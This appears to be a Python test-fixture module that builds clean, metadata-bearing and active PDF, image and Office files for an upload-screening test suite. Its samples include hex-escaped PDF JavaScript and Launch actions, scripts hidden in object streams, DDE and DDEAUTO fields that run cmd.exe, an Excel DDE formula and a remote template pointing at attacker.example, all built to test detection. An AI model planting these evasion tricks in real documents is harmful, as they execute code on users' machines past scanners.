"""Real files written for the upload tests: clean ones, ones carrying a person, active ones.

Each is built here, with pikepdf, Pillow, openpyxl or by hand (DOCX is a zip of XML parts),
so the tests show what a parser sees, not what a regex happens to find.
"""

from __future__ import annotations

import io
import zipfile
import zlib

import pikepdf
from PIL import Image

from tests.screening.docs import pdf_of

PERSON = "Amina Person-Canary"
GPS_CANARY = (59.0, 54.0, 43.21)

# --- images --------------------------------------------------------------------------------


def jpeg_with_gps() -> bytes:
    """A photo carrying a GPS position, a camera owner's name and XMP."""
    image = Image.new("RGB", (32, 24), (200, 30, 30))
    exif = Image.Exif()
    exif[0x013B] = PERSON  # Artist
    exif[0x8825] = {  # GPS IFD
        1: "N",
        2: GPS_CANARY,
        3: "E",
        4: (10.0, 45.0, 0.0),
    }
    xmp = f'<x:xmpmeta xmlns:x="adobe:ns:meta/"><dc:creator>{PERSON}</dc:creator></x:xmpmeta>'
    out = io.BytesIO()
    image.save(out, "JPEG", exif=exif.tobytes(), xmp=xmp.encode(), quality=90)
    return out.getvalue()


def png_with_text() -> bytes:
    """A PNG with an Author text chunk and EXIF."""
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Author", PERSON)
    exif = Image.Exif()
    exif[0x013B] = PERSON
    out = io.BytesIO()
    Image.new("RGBA", (8, 8), (0, 0, 255, 128)).save(out, "PNG", pnginfo=info, exif=exif)
    return out.getvalue()


# --- PDF -----------------------------------------------------------------------------------


def clean_pdf() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    out = io.BytesIO()
    pdf.save(out)
    return out.getvalue()


def pdf_with_author() -> bytes:
    """A PDF naming its author in the Info dictionary and in XMP."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    pdf.docinfo["/Author"] = PERSON
    pdf.docinfo["/Creator"] = PERSON
    with pdf.open_metadata(set_pikepdf_as_editor=False) as meta:
        meta["dc:creator"] = [PERSON]
    out = io.BytesIO()
    pdf.save(out, compress_streams=False)
    return out.getvalue()


def _hand_pdf(objects: list[bytes]) -> bytes:
    """A PDF written byte by byte, with a correct cross-reference table."""
    return pdf_of(objects, version=b"1.7")


def _page_with_action(action: bytes) -> list[bytes]:
    return [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>",
        b"<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A 5 0 R >>",
        action,
    ]


def pdf_hex_escaped_javascript() -> bytes:
    """``/J#61vaScript``: the JavaScript action with its names spelled in #xx escapes."""
    return _hand_pdf(_page_with_action(b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>"))


def pdf_hex_escaped_launch() -> bytes:
    """``/L#61unch``: a link that starts a program, spelled so no plain-text scan sees it."""
    return _hand_pdf(_page_with_action(b"<< /S /L#61unch /F (calc.exe) >>"))


def pdf_javascript_in_object_stream() -> bytes:
    """A JavaScript link action packed, with every other object, in a compressed stream."""
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    action = pdf.make_indirect(
        pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)"))
    )
    annot = pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Annot,
            Subtype=pikepdf.Name.Link,
            Rect=pikepdf.Array([0, 0, 200, 200]),
            A=action,
        )
    )
    pdf.pages[0].obj.Annots = pikepdf.Array([annot])
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    data = out.getvalue()
    assert b"JavaScript" not in data and b"/JS" not in data  # hidden from a byte scan
    return data


def pdf_with_embedded_file() -> bytes:
    pdf = pikepdf.new()
    pdf.add_blank_page(page_size=(200, 200))
    pdf.attachments["payload.exe"] = b"MZ not really"
    out = io.BytesIO()
    pdf.save(out, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    return out.getvalue()


def pdf_with_open_action_script() -> bytes:
    return _hand_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
            b"<< /S /URI /URI (https://example.org/beacon) >>",
        ]
    )


def pdf_stream_text_mentions_javascript() -> bytes:
    """Ordinary text *about* /JavaScript in a page: words, not an action (must pass)."""
    content = zlib.compress(b"BT /F1 12 Tf 10 100 Td (About /JavaScript and /Launch) Tj ET")
    return _hand_pdf(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
            b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Contents 4 0 R >>",
            b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(content)
            + content
            + b"\nendstream",
        ]
    )


# --- Office (OOXML) ------------------------------------------------------------------------

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
REL = "http://schemas.openxmlformats.org/package/2006/relationships"
RT = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def _types(extra: str = "") -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" '
        'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/word/document.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/>'
        '<Override PartName="/docProps/core.xml" '
        'ContentType="application/vnd.openxmlformats-package.core-properties+xml"/>'
        '<Override PartName="/docProps/app.xml" ContentType="application/'
        'vnd.openxmlformats-officedocument.extended-properties+xml"/>'
        f"{extra}</Types>"
    )


def _rels(*relationships: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<Relationships xmlns="{REL}">{"".join(relationships)}</Relationships>'
    )


ROOT_RELS = _rels(
    f'<Relationship Id="rId1" Type="{RT}/officeDocument" Target="word/document.xml"/>',
    '<Relationship Id="rId2" Type="http://schemas.openxmlformats.org/package/2006/'
    'relationships/metadata/core-properties" Target="docProps/core.xml"/>',
    f'<Relationship Id="rId3" Type="{RT}/extended-properties" Target="docProps/app.xml"/>',
)


def _document(body: str) -> str:
    return (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{body}</w:body></w:document>'
    )


PLAIN_BODY = "<w:p><w:r><w:t>Six women took part in the consultation.</w:t></w:r></w:p>"


def make_docx(
    body: str = PLAIN_BODY,
    *,
    extra: dict[str, str | bytes] | None = None,
    types: str = "",
    document_rels: str = "",
    core: str = "",
    app: str = "",
) -> bytes:
    parts: dict[str, str | bytes] = {
        "[Content_Types].xml": _types(types),
        "_rels/.rels": ROOT_RELS,
        "word/document.xml": _document(body),
        "docProps/core.xml": core
        or (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
            'metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/"/>'
        ),
        "docProps/app.xml": app
        or (
            '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
            '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
            'extended-properties"/>'
        ),
    }
    if document_rels:
        parts["word/_rels/document.xml.rels"] = document_rels
    parts.update(extra or {})
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def docx_with_author() -> bytes:
    """Author, last editor, company, a comment and a tracked change, all naming a person."""
    core = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/'
        'metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">'
        f"<dc:creator>{PERSON}</dc:creator><cp:lastModifiedBy>{PERSON}</cp:lastModifiedBy>"
        "</cp:coreProperties>"
    )
    app = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'extended-properties"><Company>{PERSON} Foundation</Company></Properties>'
    )
    custom = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
        'custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/'
        'docPropsVTypes"><property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" '
        f'name="Source"><vt:lpwstr>{PERSON}</vt:lpwstr></property></Properties>'
    )
    body = (
        PLAIN_BODY + f'<w:p><w:ins w:id="1" w:author="{PERSON}" w:date="2026-01-01T00:00:00Z">'
        "<w:r><w:t>Added later.</w:t></w:r></w:ins>"
        f'<w:r><w:rPr><w:rPrChange w:id="2" w:author="{PERSON}"><w:rPr/></w:rPrChange>'
        "</w:rPr><w:t>Restyled.</w:t></w:r>"
        f'<w:del w:id="3" w:author="{PERSON}"><w:r><w:delText>Gone.</w:delText></w:r>'
        "</w:del></w:p>"
    )
    comments = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:comments xmlns:w="{W}"><w:comment w:id="0" w:author="{PERSON}" w:initials="AP">'
        "<w:p><w:r><w:t>Check the numbers.</w:t></w:r></w:p></w:comment></w:comments>"
    )
    people = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        '<w15:people xmlns:w15="http://schemas.microsoft.com/office/word/2012/wordml">'
        f'<w15:person w15:author="{PERSON}"><w15:presenceInfo w15:providerId="AD" '
        f'w15:userId="S::{PERSON}@example.org"/></w15:person></w15:people>'
    )
    return make_docx(
        body,
        core=core,
        app=app,
        extra={
            "docProps/custom.xml": custom,
            "word/comments.xml": comments,
            "word/people.xml": people,
            "word/media/image1.jpeg": jpeg_with_gps(),
        },
    )


def docx_remote_template() -> bytes:
    """A document that fetches its template from a server when opened."""
    settings_xml = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
        f'<w:settings xmlns:w="{W}" xmlns:r="{R}"><w:attachedTemplate r:id="rId1"/>'
        "</w:settings>"
    )
    rels = _rels(
        f'<Relationship Id="rId1" Type="{RT}/attachedTemplate" '
        'Target="https://attacker.example/template.dotm" TargetMode="External"/>'
    )
    return make_docx(
        extra={"word/settings.xml": settings_xml, "word/_rels/settings.xml.rels": rels}
    )


def docx_with_ole_object() -> bytes:
    rels = _rels(
        f'<Relationship Id="rId5" Type="{RT}/oleObject" Target="embeddings/oleObject1.bin"/>'
    )
    return make_docx(
        PLAIN_BODY + '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:'
        'office:office" r:id="rId5" ProgID="Package"/></w:object></w:r></w:p>',
        document_rels=rels,
        types='<Default Extension="bin" ContentType="application/'
        'vnd.openxmlformats-officedocument.oleObject"/>',
        extra={"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + b"\x00" * 60},
    )


def docx_with_activex() -> bytes:
    rels = _rels(f'<Relationship Id="rId6" Type="{RT}/control" Target="activeX/activeX1.xml"/>')
    return make_docx(
        document_rels=rels,
        extra={
            "word/activeX/activeX1.xml": (
                '<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" '
                'ax:classid="{8BD21D40-EC42-11CE-9E0D-00AA006002F3}"/>'
            )
        },
    )


def docx_with_dde_field() -> bytes:
    """A simple DDE field: runs a program when fields update."""
    return make_docx(
        PLAIN_BODY + '<w:p><w:fldSimple w:instr=" DDE &quot;c:\\\\windows\\\\system32\\\\'
        'cmd.exe&quot; &quot;/c calc&quot; "><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'
    )


def docx_with_ddeauto_field() -> bytes:
    """DDEAUTO split over runs, as Word writes it, so no single text holds the word."""
    return make_docx(
        PLAIN_BODY + '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        '<w:r><w:instrText xml:space="preserve"> DDE</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">AUTO c:\\\\windows\\\\system32\\\\cmd.exe '
        '"/k calc" </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


def docx_with_hyperlink_and_page_field() -> bytes:
    """An external hyperlink and a PAGE field: ordinary, and accepted."""
    rels = _rels(
        f'<Relationship Id="rId9" Type="{RT}/hyperlink" Target="https://www.regjeringen.no/" '
        'TargetMode="External"/>'
    )
    body = (
        PLAIN_BODY + '<w:p><w:hyperlink r:id="rId9"><w:r><w:t>Source</w:t></w:r></w:hyperlink>'
        '<w:fldSimple w:instr=" PAGE "><w:r><w:t>1</w:t></w:r></w:fldSimple></w:p>'
    )
    return make_docx(body, document_rels=rels)


def xlsx_clean() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["Women consulted", 12])
    sheet["C1"] = "=B1*2"
    book.properties.creator = PERSON
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def xlsx_with_dde_formula() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet["A1"] = "=cmd|' /C calc'!A0"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def _field(instruction_runs: str, result: str = "<w:r><w:t>x</w:t></w:r>") -> str:
    return (
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        + instruction_runs
        + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
        + result
        + '<w:r><w:fldChar w:fldCharType="end"/></w:r>'
    )


def _instr(text: str) -> str:
    return f'<w:r><w:instrText xml:space="preserve">{text}</w:instrText></w:r>'


def docx_with_computed_field_name() -> bytes:
    """{ {QUOTE 68 68 69 65 85 84 79} "cmd" }: the field's name is made by a nested field."""
    inner = _field(_instr(" QUOTE 68 68 69 65 85 84 79 "))
    return make_docx(PLAIN_BODY + "<w:p>" + _field(inner + _instr(' "cmd" "/k calc" ')) + "</w:p>")


def docx_with_nested_ordinary_fields() -> bytes:
    """A table-of-contents-like field holding PAGEREF fields in its result: accepted."""
    inner = _field(_instr(" PAGEREF _Toc1 \\h "), "<w:r><w:t>3</w:t></w:r>")
    return make_docx(
        PLAIN_BODY + "<w:p>" + _field(_instr(' TOC \\o "1-3" '), inner) + "</w:p>"
        "<w:p>"
        + _field(_instr(" IF 1 = 1 ") + _field(_instr(" PAGE ")) + _instr(' "a" "b" '))
        + "</w:p>"
    )


def docx_with_chart_workbook(workbook: bytes | None = None) -> bytes:
    """A chart's data kept as an embedded workbook (what Word and PowerPoint do): accepted."""
    rels = _rels(
        f'<Relationship Id="rId7" Type="{RT}/package" '
        'Target="../embeddings/Microsoft_Excel_Worksheet.xlsx"/>'
    )
    return make_docx(
        types='<Default Extension="xlsx" ContentType="application/'
        'vnd.openxmlformats-officedocument.spreadsheetml.sheet"/>',
        extra={
            "word/charts/chart1.xml": '<c:chartSpace xmlns:c="http://schemas.openxmlformats.org/'
            'drawingml/2006/chart"/>',
            "word/charts/_rels/chart1.xml.rels": rels,
            "word/embeddings/Microsoft_Excel_Worksheet.xlsx": workbook or xlsx_clean(),
        },
    )
